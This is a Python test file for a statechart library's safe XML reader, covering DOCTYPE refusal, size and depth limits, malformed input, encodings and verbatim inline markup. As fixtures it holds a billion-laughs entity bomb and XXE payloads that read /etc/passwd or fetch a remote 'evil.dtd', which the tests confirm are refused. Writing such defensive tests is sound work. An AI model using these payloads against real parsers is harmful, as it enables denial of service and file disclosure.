"""Safe XML reading: no DOCTYPE or entities, bounded size, depth and element count,
located problems, verbatim inline markup."""

from __future__ import annotations

import contextlib

import pytest

from statifier.chart import InvalidChart, ReadLimits, compile_chart, validate
from statifier.chart.reader import XMLProblem, read, utf8
from statifier.chart.validation import check

NS = "http://www.w3.org/2005/07/scxml"


def problems(source: str | bytes, limits: ReadLimits | None = None) -> list[tuple[int, int, str]]:
    limits = limits or ReadLimits()
    with pytest.raises(InvalidChart) as caught:
        compile_chart(source, limits=limits)
    return [(p.line, p.column, p.message) for p in caught.value.problems]


# -- the element tree -----------------------------------------------------------------


def test_read_builds_a_located_tree() -> None:
    root = read('<a xmlns="urn:a">\n  <b x="1" y=\'2\'>t<c/>u</b>\n</a>')
    assert root.tag == "{urn:a}a"
    assert (root.namespace, root.local) == ("urn:a", "a")
    (b,) = root.children
    assert b.attributes == {"x": "1", "y": "2"}
    assert b.attribute_order == ("x", "y")
    assert (b.line, b.column) == (2, 3)
    assert b.text == "tu"
    assert b.children[0].local == "c"


def test_read_records_byte_ranges() -> None:
    source = '<a><b k="a>b">x</b><c/></a>'
    root = read(source)
    b, c = root.children
    assert source.encode()[b.start : b.end] == b'<b k="a>b">x</b>'
    assert source.encode()[c.start : c.end] == b"<c/>"


def test_namespaced_attributes_are_qualified() -> None:
    root = read('<a xmlns:p="urn:p"><p:b p:c="1" d="2"/></a>')
    assert root.children[0].tag == "{urn:p}b"
    assert root.children[0].attributes == {"{urn:p}c": "1", "d": "2"}


def test_predefined_and_character_references_are_expanded() -> None:
    root = read("<a>&lt;&amp;&gt;&quot;&apos;&#65;&#x42;</a>")
    assert root.text == "<&>\"'AB"


# -- DOCTYPE and entities ---------------------------------------------------------------


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<scxml xmlns="http://www.w3.org/2005/07/scxml">
  <state id="a"><onentry><log expr="'&lol9;'"/></onentry></state>
</scxml>
"""

XXE_FILE = """<?xml version="1.0"?>
<!DOCTYPE scxml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<scxml xmlns="http://www.w3.org/2005/07/scxml">
  <datamodel><data id="x">&secret;</data></datamodel><state id="a"/>
</scxml>
"""

XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE scxml [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>
<scxml xmlns="http://www.w3.org/2005/07/scxml"><state id="a"/></scxml>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE scxml SYSTEM "http://example.com/scxml.dtd">
<scxml xmlns="http://www.w3.org/2005/07/scxml"><state id="a"/></scxml>
"""

PLAIN_DOCTYPE = '<!DOCTYPE scxml><scxml xmlns="http://www.w3.org/2005/07/scxml"/>'


@pytest.mark.parametrize(
    "source",
    [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER, EXTERNAL_DTD, PLAIN_DOCTYPE],
    ids=["billion-laughs", "xxe-file", "xxe-parameter", "external-dtd", "plain"],
)
def test_a_doctype_is_refused_with_a_located_problem(source: str) -> None:
    found = problems(source)
    assert len(found) == 1
    line, column, message = found[0]
    assert "DOCTYPE" in message
    doctype_line = source[: source.index("<!DOCTYPE")].count("\n") + 1
    assert line == doctype_line
    assert column >= 1


@pytest.mark.parametrize("source", [BILLION_LAUGHS, XXE_FILE, PLAIN_DOCTYPE])
def test_read_refuses_a_doctype_before_any_expansion(source: str) -> None:
    with pytest.raises(XMLProblem) as caught:
        read(source)
    assert "lol" not in str(caught.value)
    assert "root:" not in str(caught.value)


def test_an_undeclared_entity_is_a_located_problem() -> None:
    found = problems(f'<scxml xmlns="{NS}">\n<state id="a">&nope;</state></scxml>')
    assert len(found) == 1
    assert found[0][0] == 2
    assert "entity" in found[0][2]


# -- limits ---------------------------------------------------------------------------


NESTED = f"""<scxml xmlns="{NS}">
<state id="a">
<state id="b"><state id="c"/></state>
</state>
</scxml>"""


def test_size_limit() -> None:
    size = len(NESTED.encode())
    compile_chart(NESTED, limits=ReadLimits(max_bytes=size))
    found = problems(NESTED, ReadLimits(max_bytes=size - 1))
    assert found == [(1, 1, f"document is {size} bytes; the limit is {size - 1}")]


def test_size_limit_counts_utf8_bytes_of_a_string() -> None:
    source = f'<scxml xmlns="{NS}" name="{"é" * 10}"><state id="a"/></scxml>'
    assert len(source.encode()) == len(source) + 10
    compile_chart(source, limits=ReadLimits(max_bytes=len(source) + 10))
    assert problems(source, ReadLimits(max_bytes=len(source) + 9))


def test_depth_limit() -> None:
    compile_chart(NESTED, limits=ReadLimits(max_depth=4))
    found = problems(NESTED, ReadLimits(max_depth=3))
    assert len(found) == 1
    assert found[0][0] == 3
    assert "deeper than 3" in found[0][2]


def test_element_count_limit() -> None:
    compile_chart(NESTED, limits=ReadLimits(max_elements=4))
    found = problems(NESTED, ReadLimits(max_elements=3))
    assert len(found) == 1
    assert found[0][0] == 3
    assert "more than 3 elements" in found[0][2]


def test_deep_nesting_under_the_default_limit_is_refused() -> None:
    depth = 200
    source = f'<scxml xmlns="{NS}">'
    source += "".join(f'<state id="s{i}">' for i in range(depth)) + "</state>" * depth
    source += "</scxml>"
    found = problems(source)
    assert len(found) == 1
    assert "deeper than 128" in found[0][2]


def test_many_elements_are_refused_before_the_chart_is_built() -> None:
    source = f'<scxml xmlns="{NS}"><state id="a"><onentry>' + "<log/>" * 50
    source += "</onentry></state></scxml>"
    found = problems(source, ReadLimits(max_elements=20))
    assert len(found) == 1
    assert "more than 20 elements" in found[0][2]


# -- malformed documents ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "line"),
    [
        (f'<scxml xmlns="{NS}">\n<state id="a">\n</stat></scxml>', 3),
        (f'<scxml xmlns="{NS}">\n<state id="a" id="b"/></scxml>', 2),
        (f'<scxml xmlns="{NS}">\n<state id="a"/>\n', 3),
        (f'<scxml xmlns="{NS}"/>\n<scxml xmlns="{NS}"/>', 2),
        (f'<scxml xmlns="{NS}">\n\n<state id="a></scxml>', 3),
        ("", 1),
        ("not xml at all", 1),
        (f'<scxml xmlns="{NS}">&#0;</scxml>', 1),
    ],
)
def test_malformed_xml_is_one_located_problem(source: str, line: int) -> None:
    found = problems(source)
    assert len(found) == 1
    assert found[0][0] == line
    assert found[0][1] >= 1


def test_xml_problem_names_line_and_column() -> None:
    with pytest.raises(XMLProblem) as caught:
        read("<a>\n  <b></a>")
    assert (caught.value.line, caught.value.column) == (2, 8)
    assert str(caught.value).startswith("2:8: ")


# -- encodings ------------------------------------------------------------------------


def test_utf8_with_and_without_bom() -> None:
    source = f'<scxml xmlns="{NS}" name="café"><state id="a"/></scxml>'
    assert compile_chart(source).name == "café"
    assert compile_chart(b"\xef\xbb\xbf" + source.encode()).name == "café"


def test_latin1_bytes_are_refused_with_a_located_problem() -> None:
    source = f'<?xml version="1.0" encoding="ISO-8859-1"?><scxml xmlns="{NS}" name="café"/>'
    found = problems(source.encode("latin-1"))
    assert len(found) == 1
    assert found[0][0] == 1


def test_invalid_utf8_bytes_are_refused_with_a_located_problem() -> None:
    found = problems(f'<scxml xmlns="{NS}">\n<state id="'.encode() + b'\xff\xfe"/></scxml>')
    assert len(found) == 1
    assert found[0][0] == 2


def test_text_with_a_lone_surrogate_is_refused_with_a_located_problem() -> None:
    # No encoding writes a lone surrogate: the text is not UTF-8, as bytes that are not.
    source = f'<scxml xmlns="{NS}">\n  <state id="a\ud800"/></scxml>'
    with pytest.raises(XMLProblem) as caught:
        read(source)
    assert (caught.value.line, caught.value.column) == (2, 15)
    assert caught.value.message == "the document is not UTF-8: a lone surrogate U+D800"
    with pytest.raises(XMLProblem, match="U\\+DFFF"):
        utf8("\udfff")
    assert utf8("é") == "é".encode()
    assert utf8(b"\xff") == b"\xff"  # bytes as given: read checks them
    assert read(f'<scxml xmlns="{NS}" name="a\U0001f600"/>').attributes["name"] == "a\U0001f600"


INVOKE_MARKUP = (
    f"<scxml xmlns='{NS}' version=\"1.0\">  <!-- keep -->\n"
    '  <state   id="x" note="a &gt; b &amp; c"><![CDATA[ <raw> ]]></state>\n'
    "</scxml>"
)


def _invoking(markup: str) -> str:
    return (
        f'<scxml xmlns="{NS}"><state id="w"><invoke type="scxml"><content>{markup}</content>'
        "</invoke></state></scxml>"
    )


def test_utf16_is_refused_or_read_faithfully() -> None:
    # The reader takes UTF-8; a UTF-16 document must either be refused with a problem
    # or read with its inline markup intact, never garbled.
    source = _invoking(INVOKE_MARKUP).encode("utf-16")
    if validate(source):
        return
    machine = compile_chart(source)
    content = machine.states[1].invokes[0].content
    assert content is not None
    assert content.markup == INVOKE_MARKUP


def test_utf16_with_non_ascii_inline_markup_never_crashes() -> None:
    # compile_chart and validate answer with a Machine or InvalidChart, whatever the bytes.
    source = _invoking('<x a="é"/>').encode("utf-16")
    with contextlib.suppress(InvalidChart):
        compile_chart(source)
    assert isinstance(validate(source), tuple)


# -- inline content -------------------------------------------------------------------


def test_inline_content_markup_is_kept_verbatim() -> None:
    machine = compile_chart(_invoking(INVOKE_MARKUP))
    content = machine.states[1].invokes[0].content
    assert content is not None
    assert content.markup == INVOKE_MARKUP


def test_inline_content_markup_after_multibyte_text_is_kept_verbatim() -> None:
    markup = f'<scxml xmlns="{NS}"><final id="ü"/></scxml>'
    source = (
        f'<scxml xmlns="{NS}" name="ñandú"><state id="w">'
        f'<onentry><log label="ünïcödé"/></onentry><invoke type="scxml"><content>'
        f"{markup}</content></invoke></state></scxml>"
    )
    content = compile_chart(source).states[1].invokes[0].content
    assert content is not None
    assert content.markup == markup


def test_inline_content_with_several_children_spans_them_all() -> None:
    markup = '<a x="1"/>\n  text <b>  </b>'
    content = compile_chart(_invoking(markup)).states[1].invokes[0].content
    assert content is not None
    assert content.markup == markup


def test_compiling_or_validating_text_with_a_lone_surrogate_is_a_located_problem() -> None:
    source = f'<scxml xmlns="{NS}">\n  <state id="a\ud800"/></scxml>'
    with pytest.raises(InvalidChart) as caught:
        compile_chart(source)
    [problem] = caught.value.problems
    assert (problem.line, problem.column) == (2, 15)
    assert "not UTF-8" in problem.message
    assert validate(source) == caught.value.problems
    [finding] = check(source)
    assert (finding.severity, finding.line, finding.column) == ("error", 2, 15)
